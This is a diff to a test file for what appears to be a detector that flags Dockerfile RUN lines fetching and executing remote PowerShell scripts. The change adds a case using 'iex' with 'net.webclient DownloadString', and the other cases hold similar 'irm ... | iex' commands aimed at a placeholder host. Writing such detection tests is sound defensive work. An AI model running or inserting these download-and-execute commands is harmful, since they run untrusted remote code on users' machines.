@@ -38,6 +38,10 @@ describe('scripts that are run as they come', () => {
     ['a list of words', `${CMD}RUN ["powershell", "-Command", "«iex (irm https://x.example/a)»"]\n`],
     ['pwsh on Linux', `${LINUX}RUN pwsh -c '«iex (irm https://x.example/a)»'\n`],
     ['PowerShell as the shell on Linux', `${LINUX}SHELL ["pwsh", "-c"]\nRUN «irm https://x.example/a | iex»\n`],
+    [
+      'PowerShell that an unknown image has',
+      `FROM stefanscherer/node-windows\nRUN «iex ((new-object net.webclient).DownloadString('https://x.example/a'))»\n`,
+    ],
     ['a here-document', `${LINUX}SHELL ["pwsh", "-c"]\nRUN <<EOF\nmkdir a\n«irm https://x.example/a | iex»\nEOF\n`],
   ])('are found: %s', (_name, text) => expectMarks(remoteScriptExec, 'Dockerfile', text));
 
